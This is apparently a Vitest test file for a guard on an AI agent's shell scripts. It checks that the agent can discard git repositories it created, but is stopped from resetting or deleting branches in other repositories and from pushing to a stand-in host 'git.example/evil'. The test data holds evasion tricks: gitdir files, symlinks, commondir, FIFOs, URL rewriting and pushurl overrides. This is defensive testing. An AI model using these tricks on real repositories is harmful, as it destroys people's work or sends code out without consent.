/** Repositories that a task makes for itself, as tests do, are its to throw away; those of people are not. */
import { chmodSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { World } from '../cli/world.ts';

const world = new World();
const own = ['-c user.name=A -c user.email=a@b commit -q --allow-empty -m one', 'branch two'];
beforeAll(() => {
  world.must('init', '--yes');
  world.git('init', '--quiet', 'before');
  world.git(
    '-C',
    'before',
    '-c',
    'user.name=A',
    '-c',
    'user.email=a@b',
    'commit',
    '-q',
    '--allow-empty',
    '-m',
    'x',
  );
  world.git('branch', 'kept');
});
afterAll(() => world.dispose());

/** From a script, whose text nobody reads; the last line says whether all went well. */
function script(...lines: readonly string[]) {
  world.write('try', ['#!/bin/sh -e', ...lines, 'echo done', ''].join('\n'));
  chmodSync(join(world.repository, 'try'), 0o755);
  return world.writ(['exec', '--', './try']);
}

const begin = (folder: string) => [`git init -q ${folder}`, ...own.map((one) => `git -C ${folder} ${one}`)];
const throwAway = [
  'echo a > a',
  'git add a',
  'git stash -q',
  'git stash drop -q',
  'git reset -q --hard',
  'git clean -fdx',
  'git branch -q -D two',
];

it.each<[string, string[]]>([
  ['among temporary files', [...begin('/tmp/scratch'), 'cd /tmp/scratch', ...throwAway]],
  ['in the worktree', [...begin('scratch'), 'cd scratch', ...throwAway]],
  [
    'from a folder below',
    [
      ...begin('/tmp/deep'),
      'mkdir -p /tmp/deep/a/b',
      'cd /tmp/deep/a/b',
      'git reset -q --hard',
      'git branch -q -D two',
    ],
  ],
  ['named by an option', [...begin('/tmp/named'), 'git -C /tmp/named branch -q -D two']],
  [
    'its linked worktree',
    [
      ...begin('/tmp/main'),
      'git -C /tmp/main worktree add -q /tmp/linked',
      'cd /tmp/linked',
      'git reset -q --hard',
    ],
  ],
  [
    'a bare one',
    [
      'git init -q --bare /tmp/bare',
      ...begin('/tmp/other'),
      'cd /tmp/other',
      'git push -q /tmp/bare HEAD:refs/heads/two',
      'cd /tmp/bare',
      'git branch -D two',
    ],
  ],
])('its own: %s', (_, lines) => {
  const { stdout, stderr } = script(
    'export GIT_CONFIG_COUNT=2 GIT_CONFIG_KEY_0=user.name GIT_CONFIG_VALUE_0=A GIT_CONFIG_KEY_1=user.email GIT_CONFIG_VALUE_1=a@b',
    ...lines,
  );
  expect(stderr).not.toContain('denied');
  expect(stdout).toMatch(/^done$/m);
});

const main = join(world.repository, '.git');
it.each<[string, string[]]>([
  ['the worktree', ['git reset --hard']],
  ['a folder of it that the task made', ['mkdir -p fresh', 'cd fresh', 'git branch -D kept']],
  ['one that was there before', ['cd before', 'git reset --hard']],
  ['named from elsewhere', ['cd /tmp', `git -C ${world.repository} branch -D kept`]],
  [
    'named as the git directory',
    [...begin('/tmp/elsewhere'), 'cd /tmp/elsewhere', `git --git-dir=${main} branch -D kept`],
  ],
  [
    'by a file that leads to it',
    ['mkdir /tmp/file', `echo "gitdir: ${main}" > /tmp/file/.git`, 'cd /tmp/file', 'git branch -D kept'],
  ],
  [
    'by a link that leads to it',
    ['mkdir /tmp/link', `ln -s ${main} /tmp/link/.git`, 'cd /tmp/link', 'git branch -D kept'],
  ],
  [
    'by what it shares',
    [...begin('/tmp/shares'), 'cd /tmp/shares', `echo ${main} > .git/commondir`, 'git branch -D kept'],
  ],
  ['its folder', [`cd ${main}`, 'git branch -D kept']],
  [
    'by a pipe, which keeps nobody waiting',
    ['mkdir /tmp/pipe', 'mkfifo /tmp/pipe/.git', 'cd /tmp/pipe', 'git branch -D kept'],
  ],
])('not its own: %s', (_, lines) => {
  const { stdout, stderr } = script(...lines);
  expect(stderr).toContain('it destroys what cannot be had back');
  expect(stdout).not.toMatch(/^done$/m);
  expect(world.git('branch', '--list', 'kept')).toContain('kept');
});

const remote = ['git init -q --bare /tmp/server.git', ...begin('/tmp/client'), 'cd /tmp/client'];
const origin = 'git remote add origin /tmp/server.git';

it.each<[string, string[]]>([
  ['by its path', [...remote, 'git push -q /tmp/server.git HEAD:refs/heads/main']],
  ['by a name', [...remote, origin, 'git push -q origin HEAD:refs/heads/main', 'git push -q origin HEAD']],
  ['by the branch', [...remote, origin, 'git push -q -u origin two', 'git checkout -q two', 'git push -q']],
  [
    'from a clone',
    [
      ...remote,
      'git clone -q /tmp/server.git /tmp/clone',
      'cd /tmp/clone',
      'git fetch -q /tmp/client two',
      'git push -q origin FETCH_HEAD:refs/heads/x',
    ],
  ],
])('pushing to a folder of its own is not publishing: %s', (_, lines) => {
  const { stdout, stderr } = script(...lines);
  expect(stderr).not.toContain('denied');
  expect(stdout).toMatch(/^done$/m);
});

const address = 'https://git.example/evil/x.git';
it.each<[string, string[]]>([
  ['by its address', [...remote, `git push ${address} HEAD`]],
  ['by a name', [...remote, `git remote add origin ${address}`, 'git push origin HEAD']],
  ['beside one that is here', [...remote, origin, `git remote add other ${address}`, 'git push origin HEAD']],
  [
    'by an address to push to',
    [...remote, origin, `git remote set-url --push origin ${address}`, 'git push origin HEAD'],
  ],
  [
    'by rewriting',
    [...remote, origin, `git config url.${address}.insteadOf /tmp/server.git`, 'git push origin HEAD'],
  ],
  [
    'by another file',
    [
      ...remote,
      origin,
      `printf '[remote "origin"]\\n\\tpushurl = ${address}\\n' > /tmp/more`,
      'git config include.path /tmp/more',
      'git push origin HEAD',
    ],
  ],
  ['by the branch', [...remote, origin, `git config branch.main.pushRemote ${address}`, 'git push']],
  ['by an option', [...remote, origin, `git -c remote.origin.pushurl=${address} push origin HEAD`]],
  ['of the worktree', ['git push origin HEAD']],
])('pushing elsewhere is: %s', (_, lines) => {
  const { stdout, stderr } = script(...lines);
  expect(stderr).toContain('it sends something out of the repository');
  expect(stdout).not.toMatch(/^done$/m);
});
